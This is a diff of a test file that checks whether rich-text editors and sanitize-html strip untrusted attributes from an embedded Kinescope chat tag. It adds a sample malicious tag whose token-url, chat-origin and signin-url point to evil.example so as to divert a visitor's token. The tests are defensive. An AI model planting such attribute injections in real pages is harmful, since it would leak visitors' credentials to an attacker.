@@ -9,7 +9,12 @@ import { EVENT } from './kinescope.js'
 import { startChatSite, type ChatSite } from './site.js'
 
 const LINK = `https://kinescope.io/chat/${EVENT}#kinescope-chat`
-const TAG = `<kinescope-chat event-id="${EVENT}" token-url="/token" language="ru"></kinescope-chat>`
+const TAG = `<kinescope-chat event-id="${EVENT}" language="ru"></kinescope-chat>`
+/** What would send a visitor's statement or token elsewhere. */
+const GREEDY = TAG.replace(
+  '></',
+  ' token-url="https://evil.example/token" identity="a.b.c" token="a.b.c" chat-origin="https://evil.example" signin-url="https://evil.example" credentials="omit" debug=""></',
+)
 const CONTENT = `<p>Before</p><p><a href="${LINK}">Open the chat</a></p><p>After</p>`
 
 let chatSite: ChatSite
@@ -80,9 +85,7 @@ async function savedTag(html: string) {
   }, html)
 }
 
-const AS_WRITTEN = [
-  { attributes: { 'event-id': EVENT, 'token-url': '/token', language: 'ru' }, content: '', children: 0 },
-]
+const AS_WRITTEN = [{ attributes: { 'event-id': EVENT, language: 'ru' }, content: '', children: 0 }]
 
 describe('the marked link', () => {
   for (const { name, dropsTag, page } of EDITORS)
@@ -123,6 +126,20 @@ describe('the tag, with our configuration', () => {
       expect(await savedTag(saved)).toEqual(AS_WRITTEN)
       expect(await publish(saved)).toBe(1)
     })
+
+  for (const { name, page } of EDITORS)
+    // GrapesJS keeps every tag as it is: who edits there may write anything
+    if (name !== 'GrapesJS')
+      it(`loses in ${name} what an author may not say`, async () => {
+        const editor = await openEditor(page(true))
+        expect(await savedTag(await roundTrip(editor, `<p>Before</p>${GREEDY}<p>After</p>`))).toEqual(
+          AS_WRITTEN,
+        )
+      })
+
+  it('loses in sanitize-html what an author may not say', async () => {
+    expect(await savedTag(sanitizeHtml(GREEDY, sanitizeHtmlSettings))).toEqual(AS_WRITTEN)
+  })
 
   it('survives sanitize-html as its author wrote it, and is a chat when published', async () => {
     const saved = sanitizeHtml(`<p>Before</p>${TAG}`, sanitizeHtmlSettings)
